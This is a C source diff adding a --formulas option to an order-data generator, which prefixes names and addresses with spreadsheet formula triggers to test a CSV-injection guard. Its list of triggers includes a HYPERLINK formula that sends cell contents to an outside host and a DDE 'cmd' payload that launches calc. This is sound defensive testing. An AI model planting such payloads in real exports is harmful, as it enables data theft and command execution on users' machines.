@@ -21,7 +21,7 @@
 
 static const char usage_text[] =
     "usage: gen [-h] [-n orders] [-s seed] [-f ndjson|shopify] [--bad k] "
-    "[--refs dir]\n";
+    "[--formulas]\n           [--refs dir]\n";
 
 /* ---- randomness: splitmix64, so the same seed gives the same bytes anywhere ---- */
 
@@ -1892,7 +1892,68 @@ struct opts {
 	uint64_t seed;
 	const char *refs;
 	bool shopify;
+	bool formulas;
 };
+
+/*
+ * --formulas: text a spreadsheet would take for a formula (OWASP's
+ * triggers), some already behind the apostrophes of the guard, as a hostile
+ * customer would type it. Names and addresses start with them in turn.
+ */
+static const char *const formula_starts[] = {
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\n",
+    "'=",
+    "''+",
+    "'-",
+    "'\t",
+    "=HYPERLINK(\"http://example.com/?\"&A1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+};
+
+static const char *const formula_line2s[] = {
+    "=1+2",
+    "+Apt 4B",
+    "-Suite 200",
+    "@Unit 7",
+    "'=Floor 3",
+    "\tc/o The Loft",
+};
+
+/* Put start before text, in n bytes: the text is cut short, at a character, when it must. */
+static void
+prefix_text(char *text, size_t n, const char *start)
+{
+	size_t k = strlen(start), len = strlen(text);
+
+	if (k + len >= n) {
+		len = n - 1 - k;
+		while (len > 0 && ((unsigned char)text[len] & 0xC0) == 0x80)
+			len--;
+	}
+	memmove(text + k, text, len);
+	memcpy(text, start, k);
+	text[k + len] = '\0';
+}
+
+/* Start the order's names and addresses with formula triggers, order i's turn in the list. */
+static void
+add_formulas(struct order *o, int64_t i)
+{
+	size_t n = sizeof formula_starts / sizeof formula_starts[0];
+
+	prefix_text(o->cust_name, sizeof o->cust_name, formula_starts[i % n]);
+	prefix_text(o->to_name, sizeof o->to_name, formula_starts[(i + 1) % n]);
+	prefix_text(o->line1, sizeof o->line1, formula_starts[(i + 2) % n]);
+	if (o->line2)
+		o->line2 = formula_line2s[i %
+		    (sizeof formula_line2s / sizeof formula_line2s[0])];
+}
 
 static bool
 parse_count(const char *s, int64_t max, int64_t *v)
@@ -1917,6 +1978,7 @@ parse_options(int argc, char **argv, struct opts *o)
 	static const struct option longopts[] = {
 	    {"bad", required_argument, NULL, 'b'},
 	    {"format", required_argument, NULL, 'f'},
+	    {"formulas", no_argument, NULL, 'F'},
 	    {"help", no_argument, NULL, 'h'},
 	    {"refs", required_argument, NULL, 'r'},
 	    {NULL, 0, NULL, 0},
@@ -1948,11 +2010,16 @@ parse_options(int argc, char **argv, struct opts *o)
 				return 2;
 			}
 			break;
+		case 'F':
+			o->formulas = true;
+			break;
 		case 'h':
 			fputs(usage_text, stdout);
 			fputs("\nWrite ORDERS apparel orders as canonical NDJSON "
 			      "(default 1000, seed 1);\n--bad K makes every K-th "
-			      "record bad, --refs DIR writes catalog.csv,\n"
+			      "record bad, --formulas starts names and addresses\nwith "
+			      "spreadsheet formula triggers (= + - @ tab CR LF, some "
+			      "behind '),\n--refs DIR writes catalog.csv,\n"
 			      "inventory.csv, locations.csv, supply.csv and "
 			      "packs.csv into DIR.\n-f shopify writes the same orders "
 			      "as a Shopify orders export CSV\n(79 columns, one row a "
@@ -1991,8 +2058,9 @@ parse_options(int argc, char **argv, struct opts *o)
 		fputs(usage_text, stderr);
 		return 2;
 	}
-	if (o->shopify && o->bad_every) {
-		fputs("gen: --bad is for the NDJSON output only\n", stderr);
+	if (o->shopify && (o->bad_every || o->formulas)) {
+		fputs(
+		    "gen: --bad and --formulas are for the NDJSON output only\n", stderr);
 		return 2;
 	}
 	return -1;
@@ -2002,7 +2070,7 @@ int
 main(int argc, char **argv)
 {
 	static struct gen g;
-	struct opts opt = {1000, 0, 1, NULL, false};
+	struct opts opt = {1000, 0, 1, NULL, false, false};
 	struct order o;
 	struct out b = {0};
 	int64_t bad = 0;
@@ -2023,6 +2091,8 @@ main(int argc, char **argv)
 		enum bad kind = BAD_NONE;
 
 		make_order(&g, i, &o);
+		if (opt.formulas)
+			add_formulas(&o, i);
 		if (opt.bad_every && (i + 1) % opt.bad_every == 0) {
 			kind = (enum bad)(((i + 1) / opt.bad_every - 1) % NBAD);
 			bad++;
